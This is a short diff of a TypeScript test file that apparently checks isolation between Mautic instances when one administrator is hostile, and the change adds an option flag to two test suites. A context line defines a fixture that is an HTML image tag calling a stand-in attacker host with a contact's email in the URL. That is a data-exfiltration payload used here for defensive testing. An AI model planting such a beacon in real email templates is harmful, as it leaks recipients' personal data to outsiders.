@@ -10,7 +10,7 @@ import type { TestBody } from '../../test/test-app.ts'
 const hostile = '<img src="https://evil.test/?{{ contact.email }}">'
 
 /** Administrators of two Mautics, at their addresses; one of them is hostile and knows the ids of all templates. */
-onEachDatabase('an administrator of one Mautic', (shared) => {
+onEachDatabase('an administrator of one Mautic', { isOwn: true }, (shared) => {
   after(closeMautics)
   let gateway: OpenGateway
   let victim: TestMautic
@@ -219,7 +219,7 @@ onEachDatabase('an administrator of one Mautic', (shared) => {
   })
 })
 
-onEachDatabase('an administrator of Mailyard', (shared) => {
+onEachDatabase('an administrator of Mailyard', { isOwn: true }, (shared) => {
   after(closeMautics)
   test('gives templates to a Mautic and takes them back', async () => {
     const { service } = shared
